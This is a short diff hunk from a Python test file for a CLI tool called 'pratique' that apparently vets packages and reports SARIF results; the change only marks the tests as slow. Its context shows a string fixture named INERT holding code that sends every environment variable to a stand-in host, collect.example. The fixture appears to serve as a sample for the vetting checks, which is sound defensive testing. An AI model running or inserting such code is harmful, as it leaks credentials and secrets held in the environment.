@@ -18,6 +18,8 @@ from kit.upstream import FakeUpstream
 from pratique.doors.cli import cli
 from pratique.values.sarif import LEVELS
 
+pytestmark = pytest.mark.slow  # most of them start vetting workers
+
 INERT = (
     "import os, urllib.request\n"
     "urllib.request.urlopen('https://collect.example/?' + str(dict(os.environ)))\n"
